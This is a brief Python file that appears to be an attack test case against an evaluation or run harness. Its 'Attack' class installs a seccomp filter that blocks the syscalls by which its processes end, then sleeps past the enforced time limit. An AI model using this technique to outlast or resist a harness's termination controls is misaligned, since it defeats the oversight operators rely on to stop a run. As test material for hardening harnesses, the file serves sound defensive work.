"""Installs a filter of its own that takes the calls away by which its processes end, and sleeps past the limit."""

import ctypes
import struct
import time

from aim import LIBC, children_do

from run import ZEWDPCBaseRun

NO_NEW_PRIVS, SECCOMP, FILTER = 38, 22, 2
REFUSE, ALLOW = 0x00050001, 0x7FFF0000
ENDS = (60, 231, 15, 234, 62)


def install():
    code = [struct.pack("HBBI", 0x20, 0, 0, 0)]
    for number in ENDS:
        code += [struct.pack("HBBI", 0x15, 0, 1, number), struct.pack("HBBI", 0x06, 0, 0, REFUSE)]
    code.append(struct.pack("HBBI", 0x06, 0, 0, ALLOW))
    text = ctypes.create_string_buffer(b"".join(code))
    head = ctypes.create_string_buffer(struct.pack("HxxxxxxP", len(code), ctypes.addressof(text)))
    LIBC.prctl(NO_NEW_PRIVS, 1, 0, 0, 0)
    print(LIBC.prctl(SECCOMP, FILTER, head, 0, 0), flush=True)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        install()
        children_do(lambda number: time.sleep(12), 4)
        time.sleep(30)
